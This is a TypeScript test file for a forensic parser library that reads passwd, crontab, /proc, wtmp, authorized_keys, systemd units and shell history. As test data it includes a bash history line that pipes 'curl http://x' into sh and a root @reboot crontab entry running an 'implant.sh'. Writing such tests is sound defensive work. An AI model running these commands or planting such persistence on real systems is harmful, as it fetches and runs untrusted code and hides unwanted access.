import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { isLoginShell, parseGroup, parsePasswd } from "../src/parsers/accounts.ts";
import { parseAuthorizedKeys } from "../src/parsers/authorized-keys.ts";
import { parseCrontab } from "../src/parsers/crontab.ts";
import { ParseError } from "../src/parsers/errors.ts";
import { formatAddress, parseCmdline, parseProcNet, parseProcStat, processStartTime } from "../src/parsers/proc.ts";
import { parseShellHistory } from "../src/parsers/shell-history.ts";
import { parseUnitFile, unitValues } from "../src/parsers/systemd-unit.ts";
import { parseWtmp, UTMP_RECORD_SIZE } from "../src/parsers/wtmp.ts";
import { buildUtmpRecord } from "./utmp-builder.ts";

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), "utf8");

describe("passwd and group", () => {
  it("reads accounts, skips comments and NIS lines, reports malformed lines with their line numbers", () => {
    const { records, errors } = parsePasswd(fixture("passwd"));
    expect(records.map((user) => user.username)).toEqual(["root", "daemon", "alice", "bob", "svc"]);
    expect(records[2]).toEqual({ username: "alice", uid: 1000, gid: 1000, gecos: "Alice Example,,,", home: "/home/alice", shell: "/bin/zsh" });
    expect(errors.map((error) => [error.code, error.line])).toEqual([
      ["bad-field-count", 6],
      ["bad-number", 7],
    ]);
    expect(errors[0]).toMatchObject({ need: 7, have: 3 });
  });

  it("reads groups with their members", () => {
    const { records, errors } = parseGroup(fixture("group"));
    expect(records.find((group) => group.name === "sudo")).toEqual({ name: "sudo", gid: 27, members: ["alice", "bob"] });
    expect(records.find((group) => group.name === "root")?.members).toEqual([]);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ code: "bad-field-count", line: 6 });
  });

  it("knows which shells refuse logins", () => {
    expect(isLoginShell("/bin/bash")).toBe(true);
    expect(isLoginShell("/usr/sbin/nologin")).toBe(false);
    expect(isLoginShell("/bin/false")).toBe(false);
  });
});

describe("crontab", () => {
  it("parses five-field and @keyword jobs with a user field and keeps the command verbatim", () => {
    const { records, errors } = parseCrontab(fixture("crontab"), { hasUserField: true });
    expect(records).toHaveLength(4);
    expect(records[0]).toMatchObject({ line: 5, minute: "17", hour: "*", user: "root", command: "cd / && run-parts --report /etc/cron.hourly" });
    expect(records[1]).toMatchObject({
      minute: "*/5",
      hour: "1-3",
      month: "jan,feb",
      dayOfWeek: "mon-fri",
      user: "www-data",
      command: "/usr/bin/php /var/www/cron.php >/dev/null 2>&1",
    });
    expect(records[2]).toMatchObject({ special: "@reboot", user: "root", command: "/opt/persist/implant.sh --quiet", minute: "" });
    expect(records[3]).toMatchObject({ special: "@weekly", minute: "0", hour: "0", dayOfWeek: "0", user: "root" });
    expect(errors.map((error) => [error.code, error.line])).toEqual([
      ["bad-value", 9],
      ["bad-value", 10],
      ["bad-field-count", 11],
    ]);
  });

  it("parses a user crontab without a user field", () => {
    const { records, errors } = parseCrontab("MAILTO=x\n# m h dom mon dow command\n0 2 * * * /home/alice/bin/sync --all\n", { hasUserField: false });
    expect(errors).toEqual([]);
    expect(records).toEqual([
      { line: 3, special: null, minute: "0", hour: "2", dayOfMonth: "*", month: "*", dayOfWeek: "*", user: null, command: "/home/alice/bin/sync --all" },
    ]);
  });
});

describe("/proc", () => {
  it("parses a stat line whose command name contains spaces and parentheses", () => {
    const line = "4242 (evil) (name x) S 1 4242 4242 0 -1 4194560 300 0 0 0 12 3 0 0 20 0 7 0 123456 10000000 2048 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 1 0 0 0 0 0";
    const stat = parseProcStat(line);
    expect(stat).toEqual({ pid: 4242, comm: "evil) (name x", state: "S", ppid: 1, threads: 7, startTicks: 123456, rssPages: 2048 });
    expect(processStartTime(1_700_000_000, 123456).toISOString()).toBe(new Date((1_700_000_000 + 1234.56) * 1000).toISOString());
  });

  it("rejects truncated and garbled stat lines with typed errors", () => {
    expect(() => parseProcStat("12 (x) S 1 2 3")).toThrow(ParseError);
    expect(() => parseProcStat("no parentheses at all")).toThrow(/no \(comm\) field/);
    expect(() => parseProcStat("1 (x) S z 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 5 0 0 0")).toThrow(/ppid/);
  });

  it("splits NUL-separated command lines", () => {
    expect(parseCmdline(Buffer.from("/usr/bin/node\0--version\0"))).toEqual(["/usr/bin/node", "--version"]);
    expect(parseCmdline(Buffer.alloc(0))).toEqual([]);
  });

  it("decodes /proc/net/tcp addresses, ports, states, uid and inode", () => {
    const { records, errors } = parseProcNet(fixture("proc-net-tcp"), "tcp", true);
    expect(records).toEqual([
      { protocol: "tcp", localAddress: "127.0.0.1", localPort: 5432, remoteAddress: "0.0.0.0", remotePort: 0, state: "LISTEN", uid: 106, inode: 7635 },
      { protocol: "tcp", localAddress: "127.0.0.1", localPort: 41652, remoteAddress: "127.0.0.1", remotePort: 8080, state: "ESTABLISHED", uid: 1000, inode: 81234 },
    ]);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ code: "bad-field-count", line: 4 });
  });

  it("decodes /proc/net/tcp6 words in host byte order, including v4-mapped and compressed forms", () => {
    const { records, errors } = parseProcNet(fixture("proc-net-tcp6"), "tcp6", true);
    expect(errors).toEqual([]);
    expect(records.map((socket) => [socket.localAddress, socket.localPort, socket.remoteAddress, socket.remotePort, socket.state])).toEqual([
      ["::", 22, "::", 0, "LISTEN"],
      ["::1", 8080, "::1", 54321, "ESTABLISHED"],
      ["::ffff:127.0.0.1", 80, "::ffff:192.168.0.2", 50000, "TIME_WAIT"],
      ["2001:db8::1", 443, "::", 0, "LISTEN"],
    ]);
  });

  it("reads UDP states and rejects malformed endpoints", () => {
    const text = "header\n 5: 00000000:0044 00000000:0000 07 00000000:00000000 00:00000000 00000000 0 0 999 2\n 6: 0000000:0044 00000000:0000 07 0 0 0 0 0 1000 2\n";
    const { records, errors } = parseProcNet(text, "udp", true);
    expect(records).toMatchObject([{ localPort: 68, state: "UNCONNECTED", inode: 999 }]);
    expect(errors[0]).toMatchObject({ code: "bad-value", line: 3 });
  });

  it("formats addresses like RFC 5952", () => {
    expect(formatAddress(Uint8Array.from([0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]))).toBe("fe80::1");
    expect(formatAddress(Uint8Array.from([0x20, 0x01, 0x0d, 0xb8, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 1]))).toBe("2001:db8:1:0:1::1");
  });
});

describe("wtmp", () => {
  it("reads crafted login, logout and boot records", () => {
    const bytes = Buffer.concat([
      buildUtmpRecord({ type: 2, pid: 0, line: "~", user: "reboot", host: "6.1.0-18-amd64", seconds: 1_700_000_000 }),
      buildUtmpRecord({ type: 7, pid: 3141, line: "pts/0", id: "ts/0", user: "alice", host: "203.0.113.9", address: [203, 0, 113, 9], seconds: 1_700_000_100, microseconds: 250_000, session: 77 }),
      buildUtmpRecord({ type: 8, pid: 3141, line: "pts/0", seconds: 1_700_003_700 }),
      buildUtmpRecord({ type: 7, pid: 99, line: "pts/1", user: "bob", host: "2001:db8::7", address: [0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 7], seconds: 1_700_000_200 }),
    ]);
    const { records, errors } = parseWtmp(bytes);
    expect(errors).toEqual([]);
    expect(records.map((record) => [record.type, record.user, record.tty, record.host, record.address, record.time.toISOString()])).toEqual([
      ["BOOT_TIME", "reboot", "~", "6.1.0-18-amd64", null, "2023-11-14T22:13:20.000Z"],
      ["USER_PROCESS", "alice", "pts/0", "203.0.113.9", "203.0.113.9", "2023-11-14T22:15:00.250Z"],
      ["DEAD_PROCESS", "", "pts/0", "", null, "2023-11-14T23:15:00.000Z"],
      ["USER_PROCESS", "bob", "pts/1", "2001:db8::7", "2001:db8::7", "2023-11-14T22:16:40.000Z"],
    ]);
    expect(records[1]).toMatchObject({ pid: 3141, id: "ts/0", session: 77, offset: UTMP_RECORD_SIZE });
  });

  it("reads a user field that fills all 32 bytes without a terminating NUL", () => {
    const user = "u".repeat(32);
    const { records } = parseWtmp(buildUtmpRecord({ type: 7, user, line: "tty1", seconds: 1 }));
    expect(records[0]?.user).toBe(user);
    expect(records[0]?.tty).toBe("tty1");
  });

  it("reports a trailing partial record and unknown types with offsets, keeping the good records", () => {
    const good = buildUtmpRecord({ type: 7, user: "alice", seconds: 10 });
    const unknownType = buildUtmpRecord({ type: 42, user: "x", seconds: 10 });
    const badMicroseconds = buildUtmpRecord({ type: 7, user: "y", seconds: 10, microseconds: 2_000_000 });
    const { records, errors } = parseWtmp(Buffer.concat([good, unknownType, badMicroseconds, good.subarray(0, 100)]));
    expect(records.map((record) => record.user)).toEqual(["alice"]);
    expect(errors.map((error) => [error.code, error.offset])).toEqual([
      ["unknown-type", UTMP_RECORD_SIZE],
      ["bad-value", 2 * UTMP_RECORD_SIZE + 344],
      ["truncated", 3 * UTMP_RECORD_SIZE],
    ]);
    expect(errors[2]).toMatchObject({ need: UTMP_RECORD_SIZE, have: 100 });
  });

  it("returns nothing for an empty file (as in containers)", () => {
    expect(parseWtmp(new Uint8Array(0))).toEqual({ records: [], errors: [] });
  });
});

describe("authorized_keys", () => {
  const dir = mkdtempSync(join(tmpdir(), "corvid-keys-"));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("matches ssh-keygen's SHA256 fingerprints for ed25519, rsa and ecdsa keys, with options and comments", () => {
    const keys = (["ed25519", "rsa", "ecdsa"] as const).map((type) => {
      const path = join(dir, `id_${type}`);
      execFileSync("ssh-keygen", ["-q", "-t", type, "-N", "", "-C", `${type}@corvid test`, "-f", path]);
      const publicLine = readFileSync(`${path}.pub`, "utf8").trim();
      const fingerprint = execFileSync("ssh-keygen", ["-l", "-E", "sha256", "-f", `${path}.pub`], { encoding: "utf8" }).split(" ")[1];
      return { type, publicLine, fingerprint };
    });
    const text = [
      "# managed by hand",
      keys[0]!.publicLine,
      `command="/usr/bin/rrsync -ro /srv, /x",no-pty,from="10.0.0.0/8" ${keys[1]!.publicLine}`,
      `restrict ${keys[2]!.publicLine}`,
      "ssh-ed25519 !!!notbase64!!! broken",
      `ssh-rsa ${keys[0]!.publicLine.split(" ")[1]} mismatched type`,
      "ssh-ed25519 AAAAC3Nz truncated blob",
      'command="unterminated ssh-ed25519 AAAA',
      "",
    ].join("\n");
    const { records, errors } = parseAuthorizedKeys(text);
    expect(records.map((key) => [key.keyType, key.fingerprintSha256, key.comment, key.options])).toEqual([
      ["ssh-ed25519", keys[0]!.fingerprint, "ed25519@corvid test", ""],
      ["ssh-rsa", keys[1]!.fingerprint, "rsa@corvid test", 'command="/usr/bin/rrsync -ro /srv, /x",no-pty,from="10.0.0.0/8"'],
      [keys[2]!.publicLine.split(" ")[0], keys[2]!.fingerprint, "ecdsa@corvid test", "restrict"],
    ]);
    expect(errors.map((error) => [error.code, error.line])).toEqual([
      ["bad-encoding", 5],
      ["bad-value", 6],
      ["truncated", 7],
      ["bad-value", 8],
    ]);
  });
});

describe("systemd unit files", () => {
  it("joins continuation lines, skips comments and resets lists on empty assignments", () => {
    const unit = parseUnitFile(fixture("unit.service"));
    expect(unitValues(unit, "Unit", "Description")).toEqual(["Totally Legit Updater"]);
    expect(unitValues(unit, "Service", "ExecStart")).toEqual([`/usr/bin/python3 -c  "import socket; print('hello')"`]);
    expect(unitValues(unit, "Service", "Environment")).toEqual(["B=2"]);
    expect(unitValues(unit, "Install", "WantedBy")).toEqual(["multi-user.target default.target"]);
    expect(unitValues(unit, "Service", "Missing")).toEqual([]);
  });
});

describe("shell history", () => {
  it("reads bash timestamps written with HISTTIMEFORMAT", () => {
    expect(parseShellHistory("ls\n#1700000000\ncurl http://x | sh\n\nid\n", "bash")).toEqual([
      { line: 1, command: "ls", time: null },
      { line: 3, command: "curl http://x | sh", time: new Date(1_700_000_000_000) },
      { line: 5, command: "id", time: null },
    ]);
  });

  it("reads zsh extended history with multi-line commands", () => {
    expect(parseShellHistory(": 1700000000:0;echo one\\\ntwo\n: 1700000005:3;whoami\nplain\n", "zsh")).toEqual([
      { line: 1, command: "echo one\ntwo", time: new Date(1_700_000_000_000) },
      { line: 3, command: "whoami", time: new Date(1_700_000_005_000) },
      { line: 4, command: "plain", time: null },
    ]);
  });

  it("reads fish history entries with their times and escapes", () => {
    expect(parseShellHistory("- cmd: echo a\\nb\n  when: 1700000000\n- cmd: ls\n  when: 1700000009\n  paths:\n    - /tmp\n", "fish")).toEqual([
      { line: 1, command: "echo a\nb", time: new Date(1_700_000_000_000) },
      { line: 3, command: "ls", time: new Date(1_700_000_009_000) },
    ]);
  });
});
